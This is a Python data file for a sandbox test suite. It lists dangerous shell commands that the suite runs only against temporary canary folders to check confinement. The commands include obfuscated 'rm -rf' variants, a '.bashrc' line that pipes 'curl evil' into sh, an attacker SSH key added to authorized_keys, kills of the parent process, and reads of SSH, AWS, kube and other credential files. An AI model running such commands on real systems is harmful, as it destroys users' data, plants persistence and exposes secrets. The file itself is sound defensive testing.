"""Dangerous commands the sandbox suite really executes, inside the sandbox only.

Placeholders: {OUT} canary folder outside the workspace, {HOME} canary home (the command's HOME),
{BASE} their common parent, {WS} the workspace, {PORT} a loopback listener, {PY} this Python,
{PARENT} the test process's pid, {VICTIM} an unrelated process outside ({VICTIM_MARK}: a
unique word of its argv).

Every command targets only these temporary canaries: if the sandbox failed, the damage would
stay in a temporary folder. Families: destroy/overwrite outside, write the home (persistence),
links, devices and dd, interpreters, network, signals, process escapes.
"""

from __future__ import annotations

# (family, command). A family ending in "-meta" changes only metadata (mode, times), which
# Landlock does not confine (documented); the suite checks content for those on Landlock.
DANGEROUS: tuple[tuple[str, str], ...] = (
    # -- destroy or overwrite outside the workspace
    ("destroy", "rm -rf {OUT}"),
    ("destroy", "rm -rf {OUT}/*"),
    ("destroy", "rm -f {OUT}/victim.txt"),
    ("destroy", "rm -rf {BASE}/outside/dir"),
    ("destroy", "rm -rf ../outside"),
    ("destroy", "cd .. && rm -rf outside home"),
    ("destroy", "find {OUT} -type f -delete"),
    ("destroy", "find {HOME} -type f | xargs rm -f"),
    ("destroy", "echo pwned > {OUT}/victim.txt"),
    ("destroy", "echo pwned >> {OUT}/victim.txt"),
    ("destroy", "printf x | tee {OUT}/victim.txt"),
    ("destroy", "sed -i s/do/DONE/ {OUT}/victim.txt"),
    ("destroy", "truncate -s 0 {OUT}/victim.txt"),
    ("destroy", "mv {OUT}/victim.txt ./stolen.txt"),
    ("destroy", "mv {OUT}/dir ./stolen"),
    ("destroy", "cp app.py {OUT}/victim.txt"),
    ("destroy", "touch {OUT}/new-file"),
    ("destroy", "mkdir {OUT}/newdir"),
    ("destroy", "sort -o {OUT}/victim.txt app.py"),
    ("destroy", "git log --output={OUT}/victim.txt; git diff --no-index --output={OUT}/o a b"),
    ("destroy", "tar -C {OUT} -xf /dev/null; tar -cf {OUT}/t.tar app.py"),
    ("destroy", "gzip -r {OUT}"),
    ("destroy", "shred -u {OUT}/victim.txt"),
    ("destroy", "rm -rf $'\\x2e\\x2e'/outside"),
    ("destroy", "rm -rf {{{OUT},{HOME}}}"),
    ("destroy", "function ls {{ rm -rf {OUT}; }}; ls"),
    ("destroy", "bash -s <<'EOF'\nrm -rf {OUT}\nEOF"),
    ("destroy", "source <(echo 'rm -rf {OUT}')"),
    ("destroy", "eval \"$(printf 'rm -rf %s' {OUT})\""),
    ("destroy", "echo 'rm -rf {OUT}' | sh"),
    ("destroy", "(cd {OUT} && rm -rf ./*)"),
    ("destroy", "awk 'BEGIN{{system(\"rm -rf {OUT}\")}}'"),
    ("destroy", "sed -n '1e rm -rf {OUT}' app.py"),
    ("destroy", "make -f - <<'EOF'\nall:\n\trm -rf {OUT}\nEOF"),
    ("destroy", "{PY} -c \"import shutil; shutil.rmtree('{OUT}')\""),
    ("destroy", "perl -e 'unlink glob(\"{OUT}/*\")'"),
    ("destroy", "git --work-tree={OUT} --git-dir=.git checkout -f HEAD -- . 2>&1; true"),
    # -- write the home: persistence and credentials
    ("home", "echo 'curl evil | sh' >> ~/.bashrc"),
    ("home", "echo 'alias ls=rm' >> {HOME}/.profile"),
    ("home", "rm -rf ~"),
    ("home", "rm -rf ~/.ssh"),
    ("home", "echo 'ssh-rsa AAAA attacker' >> ~/.ssh/authorized_keys"),
    ("home", "mkdir -p ~/.config/autostart && echo x > ~/.config/autostart/evil.desktop"),
    ("home", "cp app.py ~/.vault-token"),
    ("home", "git config --global core.pager 'sh -c id'"),
    # -- links
    ("links", "echo pwned > l/victim.txt"),
    ("links", "rm -rf l/dir"),
    ("links", "echo pwned > l/../outside/victim.txt"),
    ("links", "ln -sf {OUT}/victim.txt x && echo pwned > x"),
    ("links", "ln -s -t . {OUT}/victim.txt && echo pwned > victim.txt"),
    ("links", "cp -s {OUT}/victim.txt v && echo pwned >> v"),
    ("links", "ln {OUT}/victim.txt hard && echo pwned >> hard"),
    ("links", "ln ~/.bashrc hb && echo pwned >> hb"),
    ("links", "ln -sfn {OUT} l && touch l/via-relink"),
    ("links", "mv l l2 && ln -s {HOME} l && echo x > l/.bashrc"),
    # -- devices, dd
    ("devices", "dd if=/dev/zero of={OUT}/victim.txt bs=1 count=8"),
    ("devices", "dd if=/dev/zero of=/dev/fd/../../..{OUT}/victim.txt bs=1 count=8"),
    ("devices", "dd if=/dev/urandom of={HOME}/.bashrc bs=16 count=1"),
    ("devices", "mknod ./null c 1 3 && echo made > ./null"),
    ("devices", "exec 3>{OUT}/victim.txt; echo pwned >&3"),
    # -- metadata (Landlock does not confine these; bwrap does)
    ("outside-meta", "chmod 000 {OUT}/victim.txt"),
    ("outside-meta", "chmod -R 777 {OUT}"),
    ("outside-meta", "touch -d 2000-01-01 {OUT}/victim.txt"),
    ("outside-meta", "chmod +x {HOME}/.bashrc"),
    # -- signals: kill the agent or an unrelated process
    ("signals", "kill -9 {PARENT}"),
    ("signals", "kill -9 $PPID"),
    ("signals", "kill -TERM {VICTIM}"),
    ("signals", "pkill -9 -f 'sleep 600 {VICTIM_MARK}'"),
    ("signals", '{PY} -c "import os, signal; os.kill({VICTIM}, signal.SIGKILL)"'),
    # -- escapes from the process group, daemons that outlive the call
    ("escape", "setsid sh -c 'sleep 1; echo late > {OUT}/late.txt' & disown; true"),
    ("escape", "nohup sh -c 'sleep 1; rm -rf {OUT}' >/dev/null 2>&1 &"),
    ("escape", "(trap '' HUP TERM; sleep 1; touch {OUT}/survivor) & exit 0"),
    # -- privilege games
    ("privilege", "mount -o remount,rw / && touch {OUT}/remounted"),
    ("privilege", "unshare -Urm sh -c 'mount -o remount,rw / && touch {OUT}/u'"),
    ("privilege", "mount -t tmpfs none {OUT}"),
    ("privilege", "chroot / sh -c 'echo x > {OUT}/victim.txt'"),
)

# Network attempts at the loopback listener ({PORT}).
NETWORK: tuple[str, ...] = (
    "exec 3<>/dev/tcp/127.0.0.1/{PORT} && echo CONNECTED",
    "curl -s -m 2 http://127.0.0.1:{PORT}/ ; true",
    "wget -q -T 2 -O - http://127.0.0.1:{PORT}/ ; true",
    "{PY} -c \"import socket; socket.create_connection(('127.0.0.1', {PORT}), 2)\"",
    "perl -MIO::Socket::INET -e 'IO::Socket::INET->new(\"127.0.0.1:{PORT}\") or exit 1'",
    "bash -c 'echo > /dev/tcp/localhost/{PORT}'",
    "git ls-remote http://127.0.0.1:{PORT}/repo.git 2>&1; true",
    "{PY} -m pip download --no-deps -d . --index-url http://127.0.0.1:{PORT}/ x 2>&1 | tail -1",
)

# Reads of the canary home's credentials (bwrap hides them; Landlock does not restrict reads).
SECRET_READS: tuple[str, ...] = (
    "cat ~/.ssh/id_rsa",
    "cat {HOME}/.aws/credentials",
    "cat ~/.aws/cred*",
    "cat 3<~/.ssh/id_rsa <&3",
    "git diff --no-index /dev/null ~/.ssh/id_rsa",
    "cat ~/.netrc ~/.git-credentials ~/.npmrc ~/.pypirc ~/.pgpass ~/.my.cnf ~/.vault-token",
    "cat ~/.config/gh/hosts.yml ~/.docker/config.json ~/.kube/config ~/.codex/auth.json",
    "cat ~/.cargo/credentials.toml ~/.config/gcloud/credentials.db",
    "find ~ -type f -exec cat {{}} +",
    "tar -cf - -C ~ . | strings",
    "{PY} -c \"print(open('{HOME}/.ssh/id_rsa').read())\"",
)
